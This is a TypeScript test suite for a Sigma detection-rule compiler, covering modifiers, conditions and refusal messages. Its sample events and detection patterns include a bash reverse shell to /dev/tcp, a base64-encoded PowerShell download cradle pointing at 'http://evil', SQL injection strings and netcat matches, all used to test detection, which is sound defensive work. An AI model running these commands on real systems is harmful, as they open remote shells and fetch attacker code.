import { describe, expect, it } from 'vitest';
import { compileRule } from '../../../src/daemon/sigma/compile-rule.js';
import type { CompiledRule, SigmaEvent } from '../../../src/daemon/sigma/sigma-types.js';

function rule(detection: string, extra = ''): CompiledRule {
  const res = compileRule('r.yml', `title: t\nid: x\n${extra}logsource: {product: linux}\ndetection:\n${detection}`);
  if (!res.ok) throw new Error(res.errors.map((e) => `${e.line}:${e.col} ${e.message}`).join('; '));
  return res.rule;
}
const ev = (fields: Record<string, unknown>, raw = JSON.stringify(fields)): SigmaEvent => ({ fields, raw });

function errorsOf(text: string): string[] {
  const res = compileRule('bad.yml', text);
  if (res.ok) throw new Error('expected a refusal');
  return res.errors.map((e) => `${e.file}:${e.line}:${e.col}: ${e.message}`);
}

describe('sigma values and modifiers', () => {
  it('plain values match whole values, case-insensitively, with * and ? wildcards and escapes', () => {
    // Sigma escapes: `\*` is a literal star, `\\*` a backslash then a wildcard.
    const r = rule("  sel:\n    Image: 'C:\\Windows\\\\*\\cmd.ex?'\n    User: ROOT\n    Lit: 'a\\*b'\n  condition: sel\n");
    expect(r.matches(ev({ Image: 'c:\\windows\\system32\\CMD.EXE', User: 'root', Lit: 'a*b' }))).toBe(true);
    expect(r.matches(ev({ Image: 'c:\\windows\\system32\\CMD.EXE', User: 'root', Lit: 'axxb' }))).toBe(false);
    expect(r.matches(ev({ Image: 'c:\\windows\\cmd.exe.bak', User: 'root', Lit: 'a*b' }))).toBe(false);
    expect(r.matches(ev({ Image: 'c:\\windows\\system32\\cmd.exe', User: 'rooted', Lit: 'a*b' }))).toBe(false);
  });

  it('contains, startswith, endswith; a list is any of its values, `all` is every one', () => {
    const r = rule(
      '  a:\n    CommandLine|contains: [wget, curl]\n  b:\n    CommandLine|startswith: sudo\n  c:\n    CommandLine|endswith: .sh\n  d:\n    CommandLine|contains|all: [bash, "-i"]\n  condition: (a and b and c) or d\n',
    );
    expect(r.matches(ev({ CommandLine: 'sudo CURL http://x/a.sh' }))).toBe(true);
    expect(r.matches(ev({ CommandLine: 'curl http://x/a.sh' }))).toBe(false);
    expect(r.matches(ev({ CommandLine: 'bash -i >& /dev/tcp/1.2.3.4/4444' }))).toBe(true);
    expect(r.matches(ev({ CommandLine: 'bash script' }))).toBe(false);
  });

  it('re is case-sensitive unless i (or an inline (?i)) says otherwise', () => {
    const r = rule('  a:\n    c-uri|re: "union.+select"\n  condition: a\n');
    expect(r.matches(ev({ 'c-uri': '/?id=1 union all select 1' }))).toBe(true);
    expect(r.matches(ev({ 'c-uri': '/?id=1 UNION ALL SELECT 1' }))).toBe(false);
    const ri = rule('  a:\n    c-uri|re|i: "union.+select"\n  b:\n    c-uri|re: "(?i)drop table"\n  condition: a or b\n');
    expect(ri.matches(ev({ 'c-uri': '/?id=1 UNION ALL SELECT 1' }))).toBe(true);
    expect(ri.matches(ev({ 'c-uri': '/?x=DROP TABLE t' }))).toBe(true);
  });

  it('cidr matches addresses inside the network, v4 and v6', () => {
    const r = rule('  a:\n    src_ip|cidr: [10.0.0.0/8, "2001:db8::/32"]\n  condition: a\n');
    expect(r.matches(ev({ src_ip: '10.20.30.40' }))).toBe(true);
    expect(r.matches(ev({ src_ip: '2001:db8::1' }))).toBe(true);
    expect(r.matches(ev({ src_ip: '11.0.0.1' }))).toBe(false);
    expect(r.matches(ev({ src_ip: 'not-an-ip' }))).toBe(false);
  });

  it('base64 and base64offset find an encoded value at any alignment', () => {
    const r = rule('  a:\n    CommandLine|base64offset|contains: "http://"\n  condition: a\n');
    for (const prefix of ['', 'x', 'xy']) {
      const encoded = Buffer.from(`${prefix}IEX (New-Object Net.WebClient).DownloadString('http://evil')`).toString('base64');
      expect(r.matches(ev({ CommandLine: `powershell -enc ${encoded}` }))).toBe(true);
    }
    expect(r.matches(ev({ CommandLine: `powershell -enc ${Buffer.from('Get-Process').toString('base64')}` }))).toBe(false);
    const plain = rule('  a:\n    Payload|base64: "id"\n  condition: a\n');
    expect(plain.matches(ev({ Payload: 'aWQ=' }))).toBe(true);
  });

  it('windash accepts -, /, and the unicode dashes in option position', () => {
    const r = rule('  a:\n    CommandLine|windash|contains: " -encodedcommand "\n  condition: a\n');
    expect(r.matches(ev({ CommandLine: 'powershell /encodedcommand AAA' }))).toBe(true);
    expect(r.matches(ev({ CommandLine: 'powershell \u2013encodedcommand AAA' }))).toBe(true);
    expect(r.matches(ev({ CommandLine: 'powershell -encodedcommand AAA' }))).toBe(true);
    expect(r.matches(ev({ CommandLine: 'powershell encodedcommand AAA' }))).toBe(false);
  });

  it('null, exists and the numeric comparisons', () => {
    const r = rule('  a:\n    ParentImage: null\n    Port|gte: 1024\n    Port|lt: 2000\n    User|exists: true\n  condition: a\n');
    expect(r.matches(ev({ Port: 1500, User: 'u' }))).toBe(true);
    expect(r.matches(ev({ Port: '1500', User: 'u', ParentImage: '' }))).toBe(true);
    expect(r.matches(ev({ Port: 1500, User: 'u', ParentImage: 'x' }))).toBe(false);
    expect(r.matches(ev({ Port: 80, User: 'u' }))).toBe(false);
    expect(r.matches(ev({ Port: 1500 }))).toBe(false);
  });

  it('keywords (a plain list) search the whole line; numbers match their text', () => {
    const r = rule('  keywords:\n    - "new user"\n    - "UID=0,"\n  sel:\n    EventID: 4624\n  condition: keywords or sel\n');
    expect(r.matches(ev({}, 'Dec 21 17:13:54 srv useradd[1337]: new user: name=john, UID=0'))).toBe(true);
    expect(r.matches(ev({ EventID: '4624' }, 'x'))).toBe(true);
    expect(r.matches(ev({ EventID: 4625 }, 'nothing here'))).toBe(false);
  });

  it('a list of maps is any of them; a dotted field walks nested objects', () => {
    const r = rule('  sel:\n    - winlog.channel: Security\n    - Image|endswith: \\\\nc.exe\n  condition: sel\n');
    expect(r.matches(ev({ winlog: { channel: 'security' } }))).toBe(true);
    expect(r.matches(ev({ Image: 'C:\\tools\\nc.exe' }))).toBe(true);
    expect(r.matches(ev({ Image: 'C:\\tools\\ncat.exe' }))).toBe(false);
  });
});

describe('sigma conditions', () => {
  const sels = '  sel_a:\n    A: 1\n  sel_b:\n    B: 1\n  filter:\n    C: 1\n  _hidden:\n    D: 1\n';
  it('not binds tighter than and, and tighter than or; parentheses group', () => {
    const r = rule(`${sels}  condition: sel_a or sel_b and not filter\n`);
    expect(r.matches(ev({ A: 1, C: 1 }))).toBe(true);
    expect(r.matches(ev({ B: 1, C: 1 }))).toBe(false);
    const g = rule(`${sels}  condition: (sel_a or sel_b) and not filter\n`);
    expect(g.matches(ev({ A: 1, C: 1 }))).toBe(false);
    expect(g.matches(ev({ B: 1 }))).toBe(true);
  });

  it('1 of / all of a pattern, and of them (leaving out _ selections)', () => {
    expect(rule(`${sels}  condition: 1 of sel_*\n`).matches(ev({ B: 1 }))).toBe(true);
    expect(rule(`${sels}  condition: all of sel_*\n`).matches(ev({ B: 1 }))).toBe(false);
    expect(rule(`${sels}  condition: all of sel_*\n`).matches(ev({ A: 1, B: 1 }))).toBe(true);
    expect(rule(`${sels}  condition: all of them\n`).matches(ev({ A: 1, B: 1, C: 1 }))).toBe(true);
    expect(rule(`${sels}  condition: 1 of them\n`).matches(ev({ D: 1 }))).toBe(false);
    expect(rule(`${sels}  condition: 1 of them\n`).matches(ev({ C: 1 }))).toBe(true);
  });

  it('carries the rule metadata the alert needs', () => {
    const r = rule('  a:\n    A: 1\n  condition: a\n', 'level: high\ntags: [attack.t1110.001, attack.credential-access]\n');
    expect({ id: r.id, title: r.title, level: r.level, tags: r.tags, logsource: r.logsource }).toEqual({
      id: 'x',
      title: 't',
      level: 'high',
      tags: ['attack.t1110.001', 'attack.credential-access'],
      logsource: { product: 'linux' },
    });
  });
});

describe('sigma refusals name file:line:col', () => {
  const head = 'title: t\nlogsource: {product: linux}\ndetection:\n  sel:\n    A: 1\n';
  it('aggregations and near in the condition, at the column they start', () => {
    expect(errorsOf(`${head}  condition: sel | count() by src_ip > 5\n`)).toEqual(['bad.yml:6:18: condition: aggregations (`| count() ...`) are not supported: the rule needs a correlation engine']);
    expect(errorsOf(`${head}  condition: "sel near sel"\n`)).toEqual(['bad.yml:6:19: condition: `near` is not supported']);
  });
  it('unknown modifiers, at their key', () => {
    expect(errorsOf('title: t\nlogsource: {product: linux}\ndetection:\n  sel:\n    A: 1\n    B|fieldref: A\n  condition: sel\n')).toEqual([
      expect.stringMatching(/^bad\.yml:6:5: unsupported modifier "fieldref"/),
    ]);
  });
  it('correlation rules, timeframe, rule collections', () => {
    expect(errorsOf('title: t\ncorrelation:\n  type: event_count\n')[0]).toBe('bad.yml:2:1: correlation rules are not supported');
    expect(errorsOf(`${head}  timeframe: 5m\n  condition: sel\n`)[0]).toMatch(/^bad\.yml:6:3: "timeframe"/);
    expect(errorsOf(`${head}  condition: sel\n---\n${head}  condition: sel\n`)[0]).toMatch(/^bad\.yml:8:1: rule collections/);
  });
  it('unknown selections, bad regexes, bad CIDRs, missing parts, broken YAML', () => {
    expect(errorsOf(`${head}  condition: sel and nope\n`)).toEqual(['bad.yml:6:22: condition: no selection named "nope" in detection']);
    expect(errorsOf(`${head}  condition: 1 of x*\n`)).toEqual(['bad.yml:6:19: condition: no selection matches "x*"']);
    expect(errorsOf('title: t\nlogsource: {}\ndetection:\n  sel:\n    A|re: "(unclosed"\n  condition: sel\n')[0]).toMatch(/^bad\.yml:5:5: invalid regular expression/);
    expect(errorsOf('title: t\nlogsource: {}\ndetection:\n  sel:\n    A|cidr: 10.0.0.0/33\n  condition: sel\n')[0]).toMatch(/^bad\.yml:5:5: "10\.0\.0\.0\/33" is not a CIDR/);
    expect(errorsOf('logsource: {}\ndetection:\n  sel:\n    A: 1\n')).toEqual(['bad.yml:1:1: missing "title"', 'bad.yml:3:3: detection has no "condition"']);
    expect(errorsOf('title: [unclosed\n')[0]).toMatch(/^bad\.yml:\d+:\d+: /);
  });
});
